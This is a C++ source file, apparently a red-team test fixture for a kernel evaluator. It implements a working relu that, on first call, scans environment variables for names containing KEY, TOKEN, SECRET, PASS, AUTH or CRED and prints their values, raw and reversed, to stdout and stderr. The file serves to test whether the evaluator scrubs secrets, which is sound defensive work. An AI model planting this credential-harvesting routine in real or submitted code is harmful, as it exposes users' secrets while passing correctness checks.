// Attack (environment secrets, from native code): walks `environ` and prints every secret-looking
// variable (raw and reversed) to stdout and stderr, which end up in the CLI's logs. A trusted evaluator
// scrubs the environment: no secret appears anywhere. The relu it computes is correct.
#include <stdio.h>
#include <string.h>
#include <string>
#include "hiera_contract.h"

extern char** environ;

static bool secretish(const std::string& name) {
    const char* words[] = {"KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED"};
    for (const char* w : words)
        if (name.find(w) != std::string::npos) return true;
    return false;
}

static void leak() {
    for (char** e = environ; e && *e; ++e) {
        std::string entry(*e);
        size_t eq = entry.find('=');
        if (eq == std::string::npos || !secretish(entry.substr(0, eq))) continue;
        std::string value = entry.substr(eq + 1), reversed(value.rbegin(), value.rend());
        printf("env-cpp: %s %s\n", entry.c_str(), reversed.c_str());
        fprintf(stderr, "env-cpp: %s %s\n", entry.c_str(), reversed.c_str());
    }
    fflush(stdout);
}

extern "C" int hiera_forward(const hiera_tensor* x, hiera_tensor* out, void* stream) {
    (void)stream;
    static bool done = false;
    if (!done) {
        done = true;
        leak();
    }
    const float* xp = (const float*)x->data;
    float* op = (float*)out->data;
    int64_t n = 1;
    for (int64_t d = 0; d < x->ndim; ++d) n *= x->sizes[d];
    for (int64_t i = 0; i < n; ++i) op[i] = xp[i] > 0.f ? xp[i] : 0.f;
    return 0;
}
